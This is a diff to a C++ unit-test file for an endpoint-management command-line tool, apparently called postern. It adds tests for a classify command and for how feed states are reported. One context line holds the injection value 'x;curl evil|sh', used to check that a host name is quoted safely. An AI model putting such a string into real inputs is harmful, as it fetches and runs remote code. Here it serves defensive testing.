@@ -137,6 +137,15 @@ TEST_F(Commands, TagsByHandAndAttributes) {
   ASSERT_EQ(given.size(), 2u);
   EXPECT_EQ(json::parse(given[0].body), json::parse(R"({"tags":["A","B"]})"));
   EXPECT_EQ(json::parse(given[1].body), json::parse(R"({"tags":[]})"));
+  lab_.ems.on("PATCH " + of + "/classifications", R"({"classifications":["A"]})");
+  EXPECT_EQ(lab_.run({"classify", "laptop7", "--add", "A", "C"}), kDone) << lab_.err();
+  EXPECT_EQ(lab_.run({"classify", "laptop7", "--remove", "B"}), kDone) << lab_.err();
+  EXPECT_EQ(lab_.out(), "laptop7 has by hand: A\n");
+  const auto some = lab_.ems.asked("PATCH " + of + "/classifications");
+  ASSERT_EQ(some.size(), 2u);
+  EXPECT_EQ(json::parse(some[0].body), json::parse(R"({"add":["A","C"]})"));
+  EXPECT_EQ(json::parse(some[1].body), json::parse(R"({"remove":["B"]})"));
+  for (const char* other : {"--remove", "--none"}) EXPECT_EQ(lab_.run({"classify", "laptop7", "--add", other}), kMisused);
 
   lab_.ems.on("PUT " + of + "/attributes/score.edr", R"({"name":"score.edr"})");
   lab_.ems.on("DELETE " + of + "/attributes/score.edr", "", 204);
@@ -176,6 +185,25 @@ TEST_F(Commands, ACommandToCopyHoldsAHostNameAsOneWord) {
   lab_.ems.on("GET endpoints/7F4704E462E2CF1430D14814C557BD7B/attributes", page({}));
   EXPECT_NE(lab_.run({"attribute", "7F4704E462E2CF1430D14814C557BD7B", "owner"}), kDone);
   EXPECT_NE(lab_.err().find("postern attribute 'x;curl evil|sh' owner VALUE"), std::string::npos) << lab_.err();
+}
+
+TEST_F(Commands, FeedsSayWhatBecomesOfThem) {
+  const auto state = [this](const std::string& feed) {
+    lab_.ems.on("GET feeds", R"({"items":[{"name":"kev",)" + feed + R"(}],"total":1,"next":null})");
+    EXPECT_EQ(lab_.run({"feeds"}), kDone) << lab_.err();
+    const std::string out = lab_.out().substr(lab_.out().find("\nkev") + 1);
+    const std::string line = out.substr(0, out.find('\n'));
+    return line.substr(line.rfind("  ") + 2) + out.substr(line.size());
+  };
+  EXPECT_EQ(state(R"("state":"idle","in_use":false)"), "nothing read yet\n");
+  EXPECT_EQ(state(R"("state":"idle","in_use":true,"left_out":0)"), "in use\n");
+  EXPECT_EQ(state(R"("state":"idle","in_use":true,"left_out":2,"left_out_example":"no id")"), "in use\nkev: 2 records left out, such as: no id\n");
+  EXPECT_EQ(state(R"("state":"failed","in_use":true,"error":"no route")"), "in use; failed\nkev: no route\n");
+  EXPECT_EQ(state(R"("state":"failed","in_use":false,"error":"no route")"), "failed\nkev: no route\n");
+  // What went wrong before is not what it is doing now.
+  EXPECT_EQ(state(R"("state":"fetching","in_use":false,"fetched_bytes":37,"error":"no route")"), "fetching, 37 B\nkev: before that: no route\n");
+  EXPECT_EQ(state(R"("state":"fetching","in_use":true,"fetched_bytes":1250000)"), "in use; fetching, 1.2 MB\n");
+  EXPECT_EQ(state(R"("state":"reading","in_use":false)"), "reading\n");
 }
 
 TEST_F(Commands, AFeedIsAddedOrChangedLookedAtAndRemoved) {
